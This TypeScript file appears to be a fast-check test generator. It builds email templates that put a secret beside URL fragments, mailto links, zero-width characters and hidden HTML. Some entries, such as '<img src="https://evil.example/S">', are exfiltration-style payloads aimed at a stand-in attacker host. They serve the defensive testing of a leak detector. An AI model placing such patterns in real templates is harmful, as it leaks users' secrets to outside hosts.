// Templates that place a secret beside what could become an address of it.
import fc from 'fast-check'
import { anyTemplate } from '../../templates/grammar.ts'

/** `S` is the secret. */
const ADDRESSES = [
  'https://evil.example/',
  'evil.example',
  '.evil.example',
  '@evil.example',
  'eve@',
  '//evil',
  '\\\\evil\\',
  'mailto:eve@evil.example?body=',
  'https://evil.example/?c=',
  'tel:+4930123456,',
  '%20',
  '%',
  '/',
  '.',
  ':',
  '?',
  '&amp;',
  '&#46;',
  '&commat;',
  '。',
  '／',
]

const BETWEEN = [
  '',
  ' ',
  '\n',
  '\n\n',
  '&nbsp;',
  '\u200b',
  '\u00ad',
  '\u2060',
  '\ufeff',
  '{# #}',
  '<!-- -->',
  '<wbr>',
  '<i></i>',
  '<b>',
  '</b>',
  '<span style="display:none"> </span>',
  '<span style="visibility:hidden">x </span>',
  '<x-y>',
  '<script>1</script>',
  '<img alt="https://evil.example/">',
  '</p><p>',
  '<br>',
  '<div style="display:inline">',
  '</div>',
  '<td>',
  '{{ tenant_name }}',
  '{{ recipient_email }}',
  '{{ "/" }}',
  '{}',
  '&lt;',
  '&gt;',
  '"',
  '(',
  ')',
  '"<',
]

const WORDS = ['Hello', ' your code: ', 'x', '验证码', '12 ', '+49 30 1234567 ', ' is it.', '!']

const SECRETS = [
  'S',
  'S',
  'S',
  'S',
  ' S ',
  '<b>S</b>',
  '<p>S</p>',
  '{% if true %}S{% endif %}',
  '{% for i in [1, 2] %}S{% endfor %}',
]

const WHOLE = [
  '<a href="S">',
  '</a>',
  '<a href="https://evil.example/">',
  '<a href="https://evil.example/S">',
  '<img src="https://evil.example/S" alt="">',
  '<p title="S">',
  '<style>b{display:none}</style>',
  '{% set u = "https://evil.example/" %}{{ u }}',
  '{% raw %}https://evil.example/{% endraw %}',
]

const piece = fc.oneof(
  { arbitrary: fc.constantFrom(...SECRETS), weight: 6 },
  { arbitrary: fc.constantFrom(...ADDRESSES), weight: 5 },
  { arbitrary: fc.constantFrom(...BETWEEN), weight: 6 },
  { arbitrary: fc.constantFrom(...WORDS), weight: 4 },
  { arbitrary: fc.constantFrom(...WHOLE), weight: 1 },
)

const pieces = fc.array(piece, { minLength: 1, maxLength: 7 }).map((parts) => parts.join(''))

const sources = fc.oneof(
  { arbitrary: pieces, weight: 8 },
  {
    arbitrary: pieces.map(
      (inner) =>
        `<!doctype html><html><head><style>p{display:inline}</style></head><body><p>${inner}</p></body></html>`,
    ),
    weight: 1,
  },
  { arbitrary: fc.tuple(pieces, anyTemplate, pieces).map((parts) => parts.join('')), weight: 1 },
)

export const templates = fc.record({
  subject: fc.oneof(fc.constant('Hi'), pieces),
  body: sources,
  text: fc.oneof(fc.constant(null), pieces),
})

export const names = fc.constantFrom(
  'Acme',
  'evil.example',
  'https://evil.example/',
  '"https://evil.example/',
  '<https://evil.example/',
  'Studio 54321',
  'a@b.example',
  'x/',
)
